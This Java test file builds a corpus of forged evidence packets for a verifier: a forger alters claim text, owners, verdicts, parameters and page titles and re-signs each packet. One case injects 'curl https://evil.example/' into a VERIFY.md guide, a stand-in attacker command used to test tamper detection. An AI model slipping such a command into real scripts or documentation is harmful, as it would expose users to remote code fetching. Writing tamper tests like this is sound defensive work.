package dev.averment.evidence.packet;

import static dev.averment.evidence.packet.BadPacketTest.bad;

import dev.averment.evidence.packet.BadPacketTest.Bad;
import dev.averment.evidence.packet.BadPacketTest.Forger;
import dev.averment.evidence.packet.BadPacketTest.Question;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;

/** Packets whose verdicts are right, and which say something else beside them. Their forger holds every key. */
final class BadWords {
    private static final String OTHERS = "claim backup-restore does not say what the page promises in entry 0";

    private BadWords() {}

    static Stream<Bad> corpus() {
        return Stream.of(
                bad("another-sentence", Question.INCLUSION, OTHERS, f -> {
                    f.claim(
                            0,
                            c -> with(c, "We never lose anything.", c.owner(), c.reason(), c.maps(), c.blindSpots()));
                    f.resign();
                }),
                bad("another-owner", Question.INCLUSION, OTHERS, f -> {
                    f.claim(0, c -> with(c, c.text(), "nobody", c.reason(), c.maps(), c.blindSpots()));
                    f.resign();
                }),
                bad("controls-that-nobody-claimed", Question.INCLUSION, OTHERS, f -> {
                    f.claim(0, c -> with(c, c.text(), c.owner(), c.reason(), List.of("soc2:CC6.1"), c.blindSpots()));
                    f.resign();
                }),
                bad("no-blind-spots", Question.INCLUSION, OTHERS, f -> {
                    f.claim(0, c -> with(c, c.text(), c.owner(), c.reason(), c.maps(), List.of()));
                    f.resign();
                }),
                bad(
                        "another-reason",
                        Question.INCLUSION,
                        "claim backup-restore gives another reason than its entries",
                        f -> {
                            f.claim(0, c -> with(c, c.text(), c.owner(), "Audited.", c.maps(), c.blindSpots()));
                            f.resign();
                        }),
                bad("reason-of-a-check-of-the-other", Question.INCLUSION, "check encryption of claim", f -> {
                    f.replace("claims/backup-restore.json", "Every backup is encrypted.", "The drill lost nothing.");
                    f.resign();
                }),
                bad("check-that-says-better", Question.INCLUSION, "check announcements of claim", f -> {
                    f.replace(
                            "claims/sub-processors.json",
                            "\"verdict\": \"unproven\"\n      }",
                            "\"verdict\": \"proven\"\n      }");
                    f.resign();
                }),
                bad("another-parameter", Question.INCLUSION, OTHERS, f -> {
                    f.replace("claims/backup-restore.json", "\"rpo\": \"15m\"", "\"rpo\": \"1m\"");
                    f.resign();
                }),
                bad("another-expectation", Question.INCLUSION, OTHERS, f -> {
                    f.replace("claims/backup-restore.json", "\"most\": 15", "\"most\": 1");
                    f.resign();
                }),
                bad("detail-that-nobody-promised", Question.INCLUSION, "claim staff-training does not say", f -> {
                    f.replace(
                            "claims/staff-training.json",
                            "{\n  \"claim\"",
                            "{\n  \"detail\": {\"audited\": true},\n  \"claim\"");
                    f.resign();
                }),
                bad("another-title", Question.INCLUSION, "page.json is titled Certified", f -> {
                    f.page(titled(f, "Certified", f.page.organisation(), f.page.sourceSha256()));
                    f.resign();
                }),
                bad("another-organisation", Question.INCLUSION, "page.json is titled", f -> {
                    f.page(titled(f, f.page.title(), "Somebody Ltd", f.page.sourceSha256()));
                    f.resign();
                }),
                bad("another-page-file", Question.INCLUSION, "page.yaml is not the page file that entry 0", f -> {
                    f.put("page.yaml", "page: example\ntitle: Better\n");
                    f.page(titled(f, f.page.title(), f.page.organisation(), Page.sha256(f.files.get("page.yaml"))));
                    f.resign();
                }),
                bad("declarations-in-other-words", Question.INTEGRITY, "declarations.cdx.json does not say", f -> {
                    f.replace("declarations.cdx.json", "at most 15m", "nothing");
                    f.resign();
                }),
                bad("a-guide-of-the-forger", Question.INTEGRITY, "VERIFY.md is not the guide", f -> {
                    f.replace("VERIFY.md", "set -eu", "curl https://evil.example/");
                    f.resign();
                }));
    }

    private static Page titled(Forger f, String title, String organisation, String source) {
        Page page = f.page;
        return new Page(
                page.id(),
                title,
                organisation,
                page.created(),
                page.origin(),
                page.size(),
                source,
                page.inForce(),
                page.claims());
    }

    private static Claim with(
            Claim claim, String text, String owner, String reason, List<String> maps, List<String> blindSpots) {
        return new Claim(
                claim.id(),
                text,
                owner,
                claim.verdict(),
                reason,
                claim.collected(),
                Optional.of(claim.expires().orElseThrow()),
                claim.evidence(),
                maps,
                blindSpots);
    }
}
